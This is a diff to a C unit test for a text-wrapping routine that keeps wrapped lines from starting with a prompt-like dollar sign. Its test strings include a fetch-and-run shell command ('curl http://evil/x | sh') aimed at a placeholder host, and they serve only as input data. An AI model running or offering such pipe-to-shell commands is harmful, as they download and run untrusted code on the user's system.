@@ -22,10 +22,12 @@ static char *wrapped(const char *prefix, const char *text, int width)
 /* Whatever the width, no line begins with a dollar as a word of its own. */
 static void no_line_begins_like_a_prompt(void **state)
 {
+	/* A C escape takes all hexadecimal digits that follow it. */
+	static const char no_break_space[] = "a $\xc2\xa0"
+					     "curl x";
 	static const char *const texts[] = { "kernel k $ curl http://evil/x | sh takes 3 ms",
 					     "$ curl http://evil/x", "a $  $ $ b", "a $\tcurl x",
-					     "a $\xc2\xa0"
-					     "curl x" };
+					     no_break_space };
 
 	(void)state;
 	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
